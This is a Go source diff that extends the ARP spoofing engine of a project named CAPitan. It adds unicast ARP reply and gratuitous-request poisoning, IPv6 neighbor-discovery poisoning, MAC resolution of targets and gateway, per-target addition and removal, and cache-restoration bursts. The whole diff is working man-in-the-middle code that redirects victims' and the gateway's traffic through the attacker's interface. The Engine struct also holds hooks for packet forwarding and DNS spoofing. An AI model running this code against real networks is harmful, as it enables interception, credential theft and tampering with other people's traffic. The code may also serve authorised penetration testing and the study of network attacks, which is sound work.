@@ -1,119 +1,505 @@
 package spoof
 
 import (
+	"errors"
+	"fmt"
 	"github.com/google/gopacket"
 	"github.com/google/gopacket/layers"
 	"github.com/google/gopacket/pcap"
 	"github.com/shoriwe/CAPitan/internal/tools"
 	"net"
+	"sort"
+	"sync"
+	"sync/atomic"
+	"time"
 )
 
+const (
+	// ReplyMode poisons with unsolicited ARP replies addressed to the victim
+	ReplyMode = "reply"
+	// RequestMode poisons with gratuitous ARP requests unicast to the victim
+	RequestMode = "request"
+)
+
+// Interval limits between poison rounds, in milliseconds
+const (
+	DefaultInterval = 1000
+	MinimumInterval = 100
+	MaximumInterval = 60000
+)
+
+const (
+	readTimeout     = 100 * time.Millisecond
+	resolveAttempts = 3
+	resolveTimeout  = time.Second
+	restoreBurst    = 5
+	restoreInterval = 200 * time.Millisecond
+)
+
+var broadcastMAC = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
+
+// frame is a serialized ARP or neighbor discovery message ready to be written
+type frame []byte
+
+// victim is a poisoned target with its real MAC and the frames sent every round
+type victim struct {
+	ip           net.IP
+	mac          net.HardwareAddr
+	poisonFrames []frame
+}
+
 type Engine struct {
-	poisonTargetPacket  layers.ARP
-	poisonGatewayPacket layers.ARP
-	ethernetPacket      layers.Ethernet
-	handle              *pcap.Handle
+	*sync.Mutex
+	handle           *pcap.Handle
+	forwardHandle    *pcap.Handle
+	ForwardErrors    chan error
+	closed           int32
+	forwardStopped   int32
+	forwardDone      chan struct{}
+	forwardedPackets uint64
+	dnsSpoofer       *DNSSpoofer
+	interfaceName    string
+	mode             string
+	oneWay           bool
+	interfaceMAC     net.HardwareAddr
+	interfaceIP      net.IP
+	interfaceIPv6    net.IP
+	gatewayIP        net.IP
+	gatewayMAC       net.HardwareAddr
+	victims          map[string]*victim
+	packetsSent      uint64
 }
 
-func (engine *Engine) Poison() error {
+// PacketsSent returns the number of poison frames written to the wire
+func (engine *Engine) PacketsSent() uint64 {
+	return atomic.LoadUint64(&engine.packetsSent)
+}
+
+// GatewayMAC returns the real MAC address of the gateway resolved when the engine started
+func (engine *Engine) GatewayMAC() net.HardwareAddr {
+	return engine.gatewayMAC
+}
+
+// Targets returns the IPs currently being poisoned
+func (engine *Engine) Targets() []string {
+	engine.Lock()
+	defer engine.Unlock()
+	var result []string
+	for ip := range engine.victims {
+		result = append(result, ip)
+	}
+	sort.Strings(result)
+	return result
+}
+
+// normalize returns IPv4 addresses in their 4 bytes form and IPv6 ones in 16 bytes
+func normalize(ip net.IP) net.IP {
+	if v4 := ip.To4(); v4 != nil {
+		return v4
+	}
+	return ip.To16()
+}
+
+func sameFamily(a, b net.IP) bool {
+	return (a.To4() == nil) == (b.To4() == nil)
+}
+
+func serializeARP(ethernetPacket *layers.Ethernet, arpPacket *layers.ARP) (frame, error) {
 	buf := gopacket.NewSerializeBuffer()
 	opts := gopacket.SerializeOptions{}
-
-	// Send ARP poison to the target
 	serializationError := gopacket.SerializeLayers(
 		buf,
 		opts,
-		&engine.ethernetPacket,
-		&engine.poisonTargetPacket,
+		ethernetPacket,
+		arpPacket,
 	)
 	if serializationError != nil {
-		return serializationError
+		return nil, serializationError
 	}
-	packetData := buf.Bytes()
+	return buf.Bytes()[:42], nil
+}
 
-	writeError := engine.handle.WritePacketData(packetData[:42])
-	if writeError != nil {
-		return writeError
+func (engine *Engine) Poison() error {
+	engine.Lock()
+	defer engine.Unlock()
+	for _, v := range engine.victims {
+		for _, poisonFrame := range v.poisonFrames {
+			writeError := engine.handle.WritePacketData(poisonFrame)
+			if writeError != nil {
+				return writeError
+			}
+			atomic.AddUint64(&engine.packetsSent, 1)
+		}
 	}
+	return nil
+}
 
-	// Send ARP poison to the gateway
-	buf = gopacket.NewSerializeBuffer()
-	opts = gopacket.SerializeOptions{}
+// newPoisonFrame builds the frame telling the victim that the spoofed IP is at the interface MAC.
+// IPv6 victims are poisoned with neighbor advertisements, or neighbor solicitations in request mode
+func newPoisonFrame(linkType layers.LinkType, mode string, interfaceMAC net.HardwareAddr, spoofedIP, victimIP net.IP, victimMAC net.HardwareAddr, spoofedIsRouter bool) (frame, error) {
+	if spoofedIP.To4() == nil {
+		if mode == RequestMode {
+			return tools.NeighborSolicitation(interfaceMAC, victimMAC, spoofedIP, victimIP, victimIP)
+		}
+		flags := tools.NDPOverrideFlag
+		if spoofedIsRouter {
+			flags |= tools.NDPRouterFlag
+		}
+		return tools.NeighborAdvertisement(interfaceMAC, victimMAC, spoofedIP, victimIP, spoofedIP, interfaceMAC, flags)
+	}
+	arpPacket := layers.ARP{
+		AddrType:          linkType,
+		Protocol:          layers.EthernetTypeIPv4,
+		HwAddressSize:     6, // Length of a mac address
+		ProtAddressSize:   4, // Length of a IPv4 ip
+		Operation:         layers.ARPReply,
+		SourceHwAddress:   []byte(interfaceMAC),
+		SourceProtAddress: []byte(spoofedIP.To4()),
+		DstHwAddress:      []byte(victimMAC),
+		DstProtAddress:    []byte(victimIP.To4()),
+	}
+	if mode == RequestMode {
+		// Gratuitous requests ask for the spoofed IP itself, receivers update their caches with the sender fields
+		arpPacket.Operation = layers.ARPRequest
+		arpPacket.DstHwAddress = []byte{0, 0, 0, 0, 0, 0}
+		arpPacket.DstProtAddress = []byte(spoofedIP.To4())
+	}
+	return serializeARP(
+		&layers.Ethernet{
+			SrcMAC:       interfaceMAC,
+			DstMAC:       victimMAC,
+			EthernetType: layers.EthernetTypeARP,
+		},
+		&arpPacket,
+	)
+}
 
-	// Send ARP poison to the target
-	serializationError = gopacket.SerializeLayers(
-		buf,
-		opts,
-		&engine.ethernetPacket,
-		&engine.poisonGatewayPacket,
+// newRestoreFrame builds the frame telling the receiver the real MAC address of the announced IP
+func newRestoreFrame(linkType layers.LinkType, interfaceMAC net.HardwareAddr, announcedIP net.IP, announcedMAC net.HardwareAddr, receiverIP net.IP, receiverMAC net.HardwareAddr, announcedIsRouter bool) (frame, error) {
+	if announcedIP.To4() == nil {
+		flags := tools.NDPOverrideFlag
+		if announcedIsRouter {
+			flags |= tools.NDPRouterFlag
+		}
+		return tools.NeighborAdvertisement(interfaceMAC, receiverMAC, announcedIP, receiverIP, announcedIP, announcedMAC, flags)
+	}
+	return serializeARP(
+		&layers.Ethernet{
+			SrcMAC:       interfaceMAC,
+			DstMAC:       receiverMAC,
+			EthernetType: layers.EthernetTypeARP,
+		},
+		&layers.ARP{
+			AddrType:          linkType,
+			Protocol:          layers.EthernetTypeIPv4,
+			HwAddressSize:     6,
+			ProtAddressSize:   4,
+			Operation:         layers.ARPReply,
+			SourceHwAddress:   []byte(announcedMAC),
+			SourceProtAddress: []byte(announcedIP.To4()),
+			DstHwAddress:      []byte(receiverMAC),
+			DstProtAddress:    []byte(receiverIP.To4()),
+		},
 	)
-	if serializationError != nil {
-		return serializationError
+}
+
+func (engine *Engine) newVictim(ip net.IP, mac net.HardwareAddr) (*victim, error) {
+	v := &victim{
+		ip:  ip,
+		mac: mac,
+	}
+	poisonFrame, buildError := newPoisonFrame(engine.handle.LinkType(), engine.mode, engine.interfaceMAC, engine.gatewayIP, ip, mac, true)
+	if buildError != nil {
+		return nil, buildError
 	}
-	packetData = buf.Bytes()
+	v.poisonFrames = append(v.poisonFrames, poisonFrame)
+	if !engine.oneWay {
+		poisonFrame, buildError = newPoisonFrame(engine.handle.LinkType(), engine.mode, engine.interfaceMAC, ip, engine.gatewayIP, engine.gatewayMAC, false)
+		if buildError != nil {
+			return nil, buildError
+		}
+		v.poisonFrames = append(v.poisonFrames, poisonFrame)
+	}
+	return v, nil
+}
 
-	writeError = engine.handle.WritePacketData(packetData[:42])
-	if writeError != nil {
-		return writeError
+// restore sends a burst of ARP replies or neighbor advertisements announcing the real MAC addresses of the victims
+// and the gateway
+func (engine *Engine) restore(victims []*victim) error {
+	var restoreFrames []frame
+	for _, v := range victims {
+		toVictim, buildError := newRestoreFrame(engine.handle.LinkType(), engine.interfaceMAC, engine.gatewayIP, engine.gatewayMAC, v.ip, v.mac, true)
+		if buildError != nil {
+			return buildError
+		}
+		toGateway, buildError := newRestoreFrame(engine.handle.LinkType(), engine.interfaceMAC, v.ip, v.mac, engine.gatewayIP, engine.gatewayMAC, false)
+		if buildError != nil {
+			return buildError
+		}
+		restoreFrames = append(restoreFrames, toVictim, toGateway)
 	}
+	for i := 0; i < restoreBurst; i++ {
+		for _, restoreFrame := range restoreFrames {
+			writeError := engine.handle.WritePacketData(restoreFrame)
+			if writeError != nil {
+				return writeError
+			}
+		}
+		time.Sleep(restoreInterval)
+	}
+	return nil
+}
+
+// Restore undoes the poisoning of every target and of the gateway
+func (engine *Engine) Restore() error {
+	engine.Lock()
+	defer engine.Unlock()
+	var victims []*victim
+	for _, v := range engine.victims {
+		victims = append(victims, v)
+	}
+	return engine.restore(victims)
+}
 
+// AddTarget resolves the MAC of the IP and starts poisoning it in the next round
+func (engine *Engine) AddTarget(ip string) error {
+	targetIP := normalize(net.ParseIP(ip))
+	if targetIP == nil {
+		return fmt.Errorf("invalid target %s", ip)
+	}
+	if !sameFamily(targetIP, engine.gatewayIP) {
+		return fmt.Errorf("%s and the gateway are not of the same IP version", targetIP)
+	}
+	if targetIP.Equal(engine.gatewayIP) {
+		return errors.New("the gateway can not be a target")
+	}
+	engine.Lock()
+	_, found := engine.victims[targetIP.String()]
+	engine.Unlock()
+	if found {
+		return fmt.Errorf("%s is already a target", targetIP)
+	}
+	// The poisoning and the forwarder keep running for the other targets while the MAC is resolved
+	resolved, resolveError := engine.resolveMACs([]net.IP{targetIP})
+	if resolveError != nil {
+		return resolveError
+	}
+	mac, found := resolved[targetIP.String()]
+	if !found {
+		return fmt.Errorf("could not resolve the MAC address of %s", targetIP)
+	}
+	v, buildError := engine.newVictim(targetIP, mac)
+	if buildError != nil {
+		return buildError
+	}
+	engine.Lock()
+	defer engine.Unlock()
+	if _, found = engine.victims[targetIP.String()]; found {
+		return fmt.Errorf("%s is already a target", targetIP)
+	}
+	engine.victims[targetIP.String()] = v
 	return nil
 }
 
+// RemoveTarget stops poisoning the IP and restores its cache and the gateway's entry for it
+func (engine *Engine) RemoveTarget(ip string) error {
+	targetIP := normalize(net.ParseIP(ip))
+	if targetIP == nil {
+		return fmt.Errorf("invalid target %s", ip)
+	}
+	engine.Lock()
+	v, found := engine.victims[targetIP.String()]
+	if !found {
+		engine.Unlock()
+		return fmt.Errorf("%s is not a target", targetIP)
+	}
+	if len(engine.victims) == 1 {
+		engine.Unlock()
+		return errors.New("at least one target is required, stop the session instead")
+	}
+	delete(engine.victims, targetIP.String())
+	engine.Unlock()
+	// The victim is no longer poisoned by the next rounds, so the restore burst does not need to block them
+	return engine.restore([]*victim{v})
+}
+
 func (engine *Engine) Close() error {
+	atomic.StoreInt32(&engine.closed, 1)
+	if engine.forwardHandle != nil {
+		engine.forwardHandle.Close()
+	}
 	engine.handle.Close()
 	return nil
 }
 
-func NewEngine(ip, gateway, iFace string) (*Engine, error) {
-	interfaceMac, _, findError := tools.FindInterfaceIpAndMac(iFace)
-	if findError != nil {
-		return nil, findError
+// newResolveFrame builds the broadcast ARP request or the multicast neighbor solicitation asking for the MAC of the IP
+func (engine *Engine) newResolveFrame(ip net.IP) (frame, error) {
+	if ip.To4() == nil {
+		multicastIP, multicastMAC := tools.SolicitedNodeMulticast(ip)
+		return tools.NeighborSolicitation(engine.interfaceMAC, multicastMAC, engine.interfaceIPv6, multicastIP, ip)
 	}
+	return serializeARP(
+		&layers.Ethernet{
+			SrcMAC:       engine.interfaceMAC,
+			DstMAC:       broadcastMAC,
+			EthernetType: layers.EthernetTypeARP,
+		},
+		&layers.ARP{
+			AddrType:          engine.handle.LinkType(),
+			Protocol:          layers.EthernetTypeIPv4,
+			HwAddressSize:     6,
+			ProtAddressSize:   4,
+			Operation:         layers.ARPRequest,
+			SourceHwAddress:   []byte(engine.interfaceMAC),
+			SourceProtAddress: []byte(engine.interfaceIP.To4()),
+			DstHwAddress:      []byte{0, 0, 0, 0, 0, 0},
+			DstProtAddress:    []byte(ip.To4()),
+		},
+	)
+}
 
-	handle, openError := pcap.OpenLive(iFace, 65536, true, 0) // TODO: Fix me
-	if openError != nil {
-		return nil, openError
+// resolveMACs asks for the MAC of every IP and collects the ARP replies and neighbor advertisements,
+// retrying the ones that did not answer
+func (engine *Engine) resolveMACs(ips []net.IP) (map[string]net.HardwareAddr, error) {
+	result := map[string]net.HardwareAddr{}
+	for attempt := 0; attempt < resolveAttempts && len(result) < len(ips); attempt++ {
+		for _, ip := range ips {
+			if _, found := result[ip.String()]; found {
+				continue
+			}
+			request, buildError := engine.newResolveFrame(ip)
+			if buildError != nil {
+				return nil, buildError
+			}
+			writeError := engine.handle.WritePacketData(request)
+			if writeError != nil {
+				return nil, writeError
+			}
+		}
+		deadline := time.Now().Add(resolveTimeout)
+		for time.Now().Before(deadline) && len(result) < len(ips) {
+			data, _, readError := engine.handle.ReadPacketData()
+			if readError == pcap.NextErrorTimeoutExpired {
+				continue
+			} else if readError != nil {
+				return nil, readError
+			}
+			packet := gopacket.NewPacket(data, layers.LayerTypeEthernet, gopacket.Default)
+			var (
+				answeredIP  net.IP
+				answeredMAC net.HardwareAddr
+			)
+			if arpLayer := packet.Layer(layers.LayerTypeARP); arpLayer != nil {
+				reply := arpLayer.(*layers.ARP)
+				if reply.Operation != layers.ARPReply {
+					continue
+				}
+				answeredIP, answeredMAC = reply.SourceProtAddress, reply.SourceHwAddress
+			} else if packet.Layer(layers.LayerTypeICMPv6NeighborAdvertisement) != nil {
+				answeredIP, answeredMAC, _ = tools.ParseNeighborDiscovery(packet)
+			} else {
+				continue
+			}
+			for _, ip := range ips {
+				if answeredIP.Equal(ip) {
+					result[ip.String()] = answeredMAC
+					break
+				}
+			}
+		}
 	}
+	return result, nil
+}
 
-	targetIP := net.ParseIP(ip)
-	gatewayIP := net.ParseIP(gateway)
+// NewEngine resolves the MAC addresses of the targets and the gateway and prepares the unicast poison frames.
+// IPv6 targets are poisoned through neighbor discovery, every target must be of the same IP version as the gateway.
+// Targets that do not answer are left out and returned, when oneWay is set only the target caches are poisoned
+func NewEngine(targets []net.IP, gateway, iFace, mode string, oneWay bool) (*Engine, []net.IP, error) {
+	if mode != ReplyMode && mode != RequestMode {
+		return nil, nil, fmt.Errorf("unknown poisoning mode %s", mode)
+	}
 
-	targetARP := layers.ARP{
-		AddrType:          handle.LinkType(),
-		Protocol:          layers.EthernetTypeIPv4,
-		HwAddressSize:     6, // Length of a mac address
-		ProtAddressSize:   4, // Length of a IPv4 ip
-		Operation:         layers.ARPReply,
-		SourceHwAddress:   []byte(interfaceMac),
-		SourceProtAddress: []byte(gatewayIP.To4()),
-		DstHwAddress:      []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, // NOTE: What if the router requires this to be specified?
-		DstProtAddress:    []byte(targetIP.To4()),
+	gatewayIP := normalize(net.ParseIP(gateway))
+	if gatewayIP == nil {
+		return nil, nil, fmt.Errorf("invalid gateway %s", gateway)
+	}
+	var normalizedTargets []net.IP
+	for _, target := range targets {
+		target = normalize(target)
+		if !sameFamily(target, gatewayIP) {
+			return nil, nil, fmt.Errorf("%s and the gateway are not of the same IP version", target)
+		}
+		if target.Equal(gatewayIP) {
+			return nil, nil, errors.New("the gateway can not be a target")
+		}
+		normalizedTargets = append(normalizedTargets, target)
 	}
 
-	gatewayARP := layers.ARP{
-		AddrType:          handle.LinkType(),
-		Protocol:          layers.EthernetTypeIPv4,
-		HwAddressSize:     6, // Length of a mac address
-		ProtAddressSize:   4, // Length of a IPv4 ip
-		Operation:         layers.ARPReply,
-		SourceHwAddress:   []byte(interfaceMac),
-		SourceProtAddress: []byte(targetIP.To4()),
-		DstHwAddress:      []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}, // NOTE: What if the router requires this to be specified?
-		DstProtAddress:    []byte(gatewayIP.To4()),
+	interfaceMac, interfaceIP, findError := tools.FindInterfaceIpAndMac(iFace)
+	if findError != nil {
+		return nil, nil, findError
+	}
+	var interfaceIPv6 net.IP
+	if gatewayIP.To4() == nil {
+		interfaceIPv6, findError = tools.FindInterfaceIPv6(iFace, interfaceMac)
+		if findError != nil {
+			return nil, nil, findError
+		}
 	}
 
-	ethernetPacket := layers.Ethernet{
-		SrcMAC:       interfaceMac,
-		DstMAC:       []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
-		EthernetType: layers.EthernetTypeARP,
+	handle, openError := pcap.OpenLive(iFace, 65536, true, readTimeout)
+	if openError != nil {
+		return nil, nil, openError
+	}
+	filterError := handle.SetBPFFilter("arp or icmp6")
+	if filterError != nil {
+		handle.Close()
+		return nil, nil, filterError
 	}
 
 	engine := &Engine{
-		poisonTargetPacket:  targetARP,
-		poisonGatewayPacket: gatewayARP,
-		ethernetPacket:      ethernetPacket,
-		handle:              handle,
+		Mutex:         new(sync.Mutex),
+		handle:        handle,
+		interfaceName: iFace,
+		mode:          mode,
+		oneWay:        oneWay,
+		interfaceMAC:  interfaceMac,
+		interfaceIP:   interfaceIP,
+		interfaceIPv6: interfaceIPv6,
+		gatewayIP:     gatewayIP,
+		victims:       map[string]*victim{},
+	}
+
+	// Learn the real addresses first, so the caches can be restored once the spoof finishes
+	resolved, resolveError := engine.resolveMACs(append([]net.IP{gatewayIP}, normalizedTargets...))
+	if resolveError != nil {
+		handle.Close()
+		return nil, nil, resolveError
+	}
+	gatewayMAC, found := resolved[gatewayIP.String()]
+	if !found {
+		handle.Close()
+		return nil, nil, fmt.Errorf("could not resolve the MAC address of %s", gatewayIP)
+	}
+	engine.gatewayMAC = gatewayMAC
+
+	var unresolved []net.IP
+	for _, target := range normalizedTargets {
+		mac, found := resolved[target.String()]
+		if !found {
+			unresolved = append(unresolved, target)
+			continue
+		}
+		v, buildError := engine.newVictim(target, mac)
+		if buildError != nil {
+			handle.Close()
+			return nil, nil, buildError
+		}
+		engine.victims[target.String()] = v
+	}
+	if len(engine.victims) == 0 {
+		handle.Close()
+		return nil, nil, errors.New("none of the targets could be resolved")
 	}
-	return engine, nil
+	return engine, unresolved, nil
 }